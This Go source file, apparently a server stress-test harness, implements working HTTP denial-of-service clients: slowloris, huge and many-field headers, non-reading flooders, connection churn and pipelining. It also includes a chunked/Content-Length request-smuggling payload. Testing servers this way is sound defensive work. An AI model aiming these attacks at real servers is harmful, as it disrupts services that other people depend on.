package attack

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"time"
)

const (
	// drip is the time between two bytes of a client that is slow on purpose.
	drip = time.Second

	// blocked is how long a client tries to write before it takes the
	// connection for full.
	blocked = 200 * time.Millisecond

	// endless is where a head without end ends: as much as net/http takes
	// unless told otherwise.
	endless = 1 << 20

	get  = "GET / HTTP/1.1\r\nHost: hello\r\n"
	post = "POST / HTTP/1.1\r\nHost: hello\r\n"
)

var flood = []byte(strings.Repeat(get+"Accept: text/html\r\n\r\n", 100))

// All are the attacks, to be made one by one.
var All = []Attack{SlowHeads, hugeHeads, tinyFields, NotReading, halfContent, churn, pipelining}

// SlowHeads is slowloris: heads that come byte by byte and never end.
var SlowHeads = Attack{
	Name: "slow heads",
	begin: func(conn *net.TCPConn, _ int) error {
		return write(conn, get+"X-Slow: ")
	},
	keep: dripping,
}

// hugeHeads are half below the limit that a server may have, half looking for it.
var hugeHeads = Attack{
	Name: "huge heads",
	begin: func(conn *net.TCPConn, _ int) error {
		return write(conn, get+"X-Huge: "+strings.Repeat("a", 11_000))
	},
	keep: func(conn *net.TCPConn, client int) error {
		if client%2 == 0 {
			return untilClosed(conn)
		}
		part := strings.Repeat("a", 16<<10)
		for range endless / len(part) {
			if err := write(conn, part); err != nil {
				return err
			}
		}
		return untilClosed(conn)
	},
}

// tinyFields take far more memory than bytes.
var tinyFields = Attack{
	Name: "tiny header fields",
	begin: func(conn *net.TCPConn, client int) error {
		fields := 250
		if client%2 == 1 {
			fields = 2500
		}
		var b strings.Builder
		b.WriteString(get)
		for i := range fields {
			fmt.Fprintf(&b, "%c%c%c:\n", 'a'+i%26, 'a'+i/26%26, 'a'+i/26/26%26)
		}
		return write(conn, b.String())
	},
	keep: func(conn *net.TCPConn, _ int) error { return untilClosed(conn) },
}

// NotReading sends requests and takes no answers.
var NotReading = Attack{
	Name: "clients that do not read",
	begin: func(conn *net.TCPConn, _ int) error {
		if err := conn.SetReadBuffer(1); err != nil {
			return err
		}
		if err := conn.SetWriteDeadline(time.Now().Add(blocked)); err != nil {
			return err
		}
		if err := flooding(conn, 0); !errors.Is(err, os.ErrDeadlineExceeded) {
			return err
		}
		return conn.SetWriteDeadline(time.Time{})
	},
	keep: flooding,
}

var halfContent = Attack{
	Name: "content half sent or garbled",
	begin: func(conn *net.TCPConn, client int) error {
		requests := []string{
			post + "Content-Length: 1000000\r\n\r\nhalf",
			post + "Transfer-Encoding: chunked\r\n\r\n7fffffff\r\nhalf",
			post + "Transfer-Encoding: chunked\r\n\r\nno chunk\r\n",
			post + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + get + "\r\n",
			post + "Content-Length: 100000\r\nExpect: 100-continue\r\n\r\n",
		}
		return write(conn, requests[client%len(requests)])
	},
	keep: dripping,
}

var churn = Attack{
	Name: "connect and close",
	begin: func(conn *net.TCPConn, client int) error {
		if client%8 == 0 {
			// An orderly end, of few, as each keeps a port for a minute.
			return conn.SetLinger(-1)
		}
		return write(conn, []string{"", get, get + "\r\n"}[client%3])
	},
	keep: func(*net.TCPConn, int) error { return nil },
}

// pipelining needs few connections to keep a server busy.
var pipelining = Attack{
	Name:  "pipelining",
	share: 8,
	begin: func(*net.TCPConn, int) error { return nil },
	keep: func(conn *net.TCPConn, client int) error {
		var reader sync.WaitGroup
		defer reader.Wait()
		defer conn.Close()
		reader.Go(func() {
			_, _ = io.Copy(io.Discard, conn)
			conn.Close()
		})
		return flooding(conn, client)
	},
}

// Idle has a request answered and asks nothing more.
var Idle = Attack{
	Name: "idle",
	begin: func(conn *net.TCPConn, _ int) error {
		if err := write(conn, get+"\r\n"); err != nil {
			return err
		}
		_, err := conn.Read(make([]byte, 4<<10))
		return err
	},
	keep: func(conn *net.TCPConn, _ int) error { return untilClosed(conn) },
}

// dripping sends a byte now and then, until the server closes or answers.
func dripping(conn *net.TCPConn, client int) error {
	// Not all at the same moment.
	next := drip * time.Duration(1+client%10) / 10
	for {
		if err := conn.SetReadDeadline(time.Now().Add(next)); err != nil {
			return err
		}
		n, err := conn.Read(make([]byte, 1))
		switch {
		case n > 0:
			return untilClosed(conn)
		case !errors.Is(err, os.ErrDeadlineExceeded):
			return err
		}
		if err := write(conn, "a"); err != nil {
			return err
		}
		next = drip
	}
}

// flooding sends requests until it fails.
func flooding(conn *net.TCPConn, _ int) error {
	for {
		if _, err := conn.Write(flood); err != nil {
			return err
		}
	}
}

// untilClosed reads until the server closes the connection.
func untilClosed(conn *net.TCPConn) error {
	if err := conn.SetReadDeadline(time.Time{}); err != nil {
		return err
	}
	_, err := io.Copy(io.Discard, conn)
	return err
}

func write(conn *net.TCPConn, text string) error {
	_, err := io.WriteString(conn, text)
	return err
}
